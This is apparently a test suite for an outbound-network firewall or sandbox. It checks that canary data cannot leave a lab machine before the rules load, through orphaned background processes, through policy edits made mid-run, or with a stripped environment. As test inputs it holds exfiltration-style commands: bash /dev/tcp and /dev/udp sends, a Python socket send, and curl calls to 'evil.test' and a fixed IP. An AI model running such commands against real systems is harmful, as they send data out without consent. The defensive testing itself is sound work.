/** Rows 87, 88, 90 and 97: before the command, after it, beside it. */
import { appendFileSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import t from "tap"
import { canary, denials, guarded, labFor, threeTimes, whyNoLab } from "./harness.ts"
import { canaryLoop, loopPolicy } from "./loop.ts"
import { alive, descendants, machineState, runDirectories, settled } from "./started.ts"
import { sleep, startGuarded, until } from "./started.ts"

t.setTimeout(300_000)
const skip = whyNoLab() ?? false

t.test("windows", { skip, timeout: 280_000 }, async (t) => {
  const lab = await labFor(t)
  await settled(lab)

  await t.test("row 87: no packet leaves before the rules stand", async (t) => {
    for (let turn = 0; turn < 3; turn++) {
      const word = canary()
      const run = startGuarded(lab, { policy: loopPolicy }, canaryLoop(word, 1))
      t.equal(await run.end, 0, run.stderr())
      t.strictSame(await lab.seen(word), [], "the canary never left")
      const [first] = run.events()
      t.match(first, { kind: "run-started", mode: "block" })
    }
    const word = canary()
    // A shell has started and sent this before any interpreter could load.
    const script = `exec 3<>/dev/tcp/198.51.100.66/4444 && echo ${word} >&3; echo ${word} >/dev/udp/198.51.100.66/5555`
    const free = canary()
    await lab.run(["bash", "-c", script.replaceAll(word, free)])
    t.ok((await lab.seen(free)).length > 0, "arrives without a firewall")
    await guarded(lab, { mode: "block" }, ["bash", "-c", script])
    t.strictSame(await lab.seen(word), [], "the canary never left")
  })

  await t.test("row 88: what the command left running ends with it, unheard", async (t) => {
    const before = machineState(lab)
    const word = canary()
    const job = join(lab.directory, "left.sh")
    const argv = canaryLoop(word, 20).map((each) => `'${each}'`)
    writeFileSync(
      job,
      `setsid ${argv.join(" ")} >/dev/null 2>&1 </dev/null &
(setsid nohup ${argv.join(" ")} >/dev/null 2>&1 </dev/null &) &
sleep 0.5
exit 5
`,
    )
    const run = startGuarded(lab, { policy: loopPolicy }, ["bash", job])
    let tree: number[] = []
    const watch = setInterval(() => (tree = [...new Set([...tree, ...descendants(run.pid)])]), 50)
    const status = await run.end
    clearInterval(watch)
    t.equal(status, 5)
    await until("all are gone", () => alive(tree).length === 0, 3_000).catch(() => {})
    t.ok(tree.length > 5)
    t.strictSame(alive(tree), [], "no process is left")
    await sleep(500)
    t.strictSame(await lab.seen(word), [], "the canary never left")
    t.equal(machineState(lab), before, "the machine is as it was")
    t.strictSame(runDirectories(run.pid), [], "no directory is left")
  })

  await t.test("row 90: the policy is read once", async (t) => {
    const word = canary()
    const script = `import socket, sys, time
print("begun", flush=True)
time.sleep(1.5)
try:
    s = socket.create_connection(("198.51.100.66", 4444), 2); s.sendall(b"${word}"); s.recv(9)
except OSError as error: print(error)
`
    const free = canary()
    await lab.run(["python3", "-c", script.replaceAll(word, free)])
    t.ok((await lab.seen(free)).length > 0, "arrives without a firewall")
    const run = startGuarded(lab, { policy: loopPolicy }, ["python3", "-c", script])
    await until("the job runs", () => run.stdout().includes("begun"))
    writeFileSync(run.policyFile, "mode: audit\nallow: ['0.0.0.0/0:*']\n")
    await run.end
    t.strictSame(await lab.seen(word), [], "what is written later changes nothing")
    t.ok(denials(run.events(), ["address-not-allowed"]).length > 0)
  })

  await t.test("row 90: a policy with an error starts nothing", async (t) => {
    const mark = join(lab.directory, "started")
    for (const policy of ["mode: block\nallow: [", "alow: [x.test]\n", "allow: ['*.com']\n"]) {
      const before = machineState(lab)
      const run = startGuarded(lab, { policy }, ["touch", mark])
      t.equal(await run.end, 125, policy)
      t.match(run.stderr(), /policy.yml:\d+/)
      t.equal((await lab.run(["test", "-e", mark])).status, 1, "nothing was started")
      t.equal(machineState(lab), before, "the machine is as it was")
      t.strictSame(runDirectories(run.pid), [], "no directory is left")
    }
  })

  await t.test("row 90: the policy's own file may be what the job appends to", async (t) => {
    const word = canary()
    const run = startGuarded(lab, { policy: loopPolicy }, canaryLoop(word, 2))
    await until("the job runs", () => run.stdout().includes("begun"))
    for (let turn = 0; turn < 10; turn++) appendFileSync(run.policyFile, '  - "**:*"\n')
    t.equal(await run.end, 0)
    t.strictSame(await lab.seen(word), [], "the canary never left")
  })

  const clean = ["env", "-i", "/usr/bin/curl", "-sk", "-m", "4"]
  await threeTimes(t, lab, {
    name: "row 97: an empty environment",
    command: (word) => [
      ...clean,
      ...["--resolve", "evil.test:443:198.51.100.66", `https://evil.test/${word}`],
    ],
    allow: ["allowed.test"],
    reasons: ["name-not-allowed", "address-not-allowed"],
  })
  await threeTimes(t, lab, {
    name: "row 97: no word of proxies or authorities in the environment",
    command: (word) => [
      ...["env", "-u", "HTTPS_PROXY", "-u", "HTTP_PROXY", "-u", "SSL_CERT_FILE"],
      ...["-u", "NODE_EXTRA_CA_CERTS", "curl", "-s", "-m", "4", "--noproxy", "*"],
      `http://198.51.100.66:8080/${word}`,
    ],
    allow: ["allowed.test"],
    reasons: ["address-not-allowed"],
  })
})
